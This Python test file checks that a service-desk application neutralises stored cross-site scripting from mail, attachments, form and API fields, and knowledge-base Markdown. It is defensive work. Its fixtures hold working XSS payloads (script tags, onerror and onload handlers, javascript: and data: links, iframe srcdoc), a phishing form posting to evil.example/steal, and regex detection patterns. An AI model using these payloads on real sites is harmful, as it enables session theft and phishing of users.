"""Stored XSS: what an outsider writes — a mail's HTML, a sender's name, a
subject, a file, a knowledge-base article's Markdown — never becomes
markup or script in the console, the public pages or the downloads."""

from __future__ import annotations

import re
from email.message import EmailMessage

from sqlalchemy import select

from servicedesk import kb_markdown, mail_intake
from servicedesk.models import Attachment, Message, Ticket
from tests.integration.console_kit import fast_sign_in
from tests.integration.portal_client import make_portal
from tests.security.conftest import World

SCRIPT = "<script>alert('xss')</script>"
IMG = "<img src=x onerror=alert('xss')>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
ACTIVE = (
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img[^>]*\bonerror", re.I),
    re.compile(r"<svg[^>]*\bonload", re.I),
    re.compile(r"""href\s*=\s*["']?\s*javascript:""", re.I),
    re.compile(r"<iframe[^>]*srcdoc", re.I),
)


def assert_inert(html: str, where: str) -> None:
    for pattern in ACTIVE:
        assert not pattern.search(html), f"{where}: {pattern.pattern}"


def hostile_mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{IMG}" <attacker@example.org>'
    mail["To"] = "neuvonta@desk.test"
    mail["Subject"] = f"Hakemus {SCRIPT}"
    mail["Message-ID"] = "<xss-1@example.org>"
    mail.set_content("Katso liitteet.")
    mail.add_alternative(
        f"<p>Hei</p>{SCRIPT}{IMG}<a href=\"javascript:alert('x')\">linkki</a>"
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>'
        '<form action="https://evil.example/steal"><input name=p></form>',
        subtype="html",
    )
    mail.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="kuva.svg")
    mail.add_attachment(
        b"<html><script>alert(3)</script></html>",
        maintype="text",
        subtype="html",
        filename="sivu.html",
    )
    return mail.as_bytes()


def test_hostile_mail_is_shown_as_text_and_its_files_only_downloaded(
    rt, client, session, world: World
) -> None:  # type: ignore[no-untyped-def]
    result = mail_intake.ingest(rt, hostile_mail(), name="hostile")
    assert result.ticket_number, result
    ticket = session.execute(
        select(Ticket).where(Ticket.number == result.ticket_number)
    ).scalar_one()
    message = (
        session.execute(select(Message).where(Message.ticket_id == ticket.id)).scalars().first()
    )
    fast_sign_in(client, world.agent)
    for path in (
        f"/console/tickets/{ticket.number}",
        "/console/desks/applicants/?status=all",
        f"/console/search?q={ticket.number[:4]}",
        "/console/search?q=Hakemus",
        f"/status/{ticket.status_token}",
    ):
        page = client.get(path)
        assert page.status_code in (200, 302), path
        assert_inert(page.get_data(as_text=True), path)
    frame = client.get(f"/console/messages/{message.id}/html")
    assert frame.status_code == 200
    body = frame.get_data(as_text=True)
    assert_inert(body, "mail HTML frame")
    assert not re.search(r"<form\b", body), "no form to phish with inside the frame"
    assert "sandbox" in frame.headers["Content-Security-Policy"]
    files = (
        session.execute(select(Attachment).where(Attachment.message_id == message.id))
        .scalars()
        .all()
    )
    assert {f.filename for f in files} >= {"kuva.svg", "sivu.html"}
    for attachment in files:
        download = client.get(f"/console/attachments/{attachment.id}")
        assert download.status_code == 200
        assert download.headers["Content-Disposition"].startswith("attachment")
        assert download.headers["Content-Type"] == "application/octet-stream"
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in download.headers["Content-Security-Policy"]


def test_names_and_subjects_from_the_api_and_the_form_stay_text(
    app, client, api, session, world: World
) -> None:  # type: ignore[no-untyped-def]
    answer = api.post(
        "/enquiries",
        json={
            "name": IMG,
            "email": "x1@example.org",
            "subject": SCRIPT,
            "body": f"Teksti {SCRIPT} {IMG} [a](javascript:alert(1))",
        },
    )
    assert answer.status_code == 201
    number = answer.get_json()["ticket"]["number"]
    portal = make_portal(app, client)
    sent = portal.post(
        "/contact?lang=en",
        {"name": SCRIPT, "email": "x2@example.org", "message": f"Hei {IMG}", "website": ""},
    )
    assert sent.status_code == 200
    assert_inert(sent.get_data(as_text=True), "the form's sent page")
    fast_sign_in(client, world.agent)
    for path in (f"/console/tickets/{number}", "/console/desks/applicants/?status=all"):
        assert_inert(client.get(path).get_data(as_text=True), path)


def test_knowledge_base_markdown_cannot_carry_script() -> None:
    body = "\n\n".join(
        [
            "# Otsikko",
            SCRIPT,
            IMG,
            "[klikkaa](javascript:alert(1))",
            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![kuva](https://evil.example/track.png)",
            '<a href="https://evil.example" onclick="alert(1)">x</a>',
            '<iframe src="https://evil.example"></iframe>',
        ]
    )
    html = kb_markdown.render_markdown(body)
    assert_inert(html, "rendered article")
    # Raw HTML in Markdown is text (escaped), never a tag or an attribute.
    assert not re.search(r"<(script|iframe)\b", html)
    assert not re.search(r"<[^>]*\bon[a-z]+\s*=", html)
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|data):""", html)
    assert "evil.example/track.png" not in html, "images only from allowed sources"
    assert kb_markdown.check_markdown(body), "saving such an article is refused"
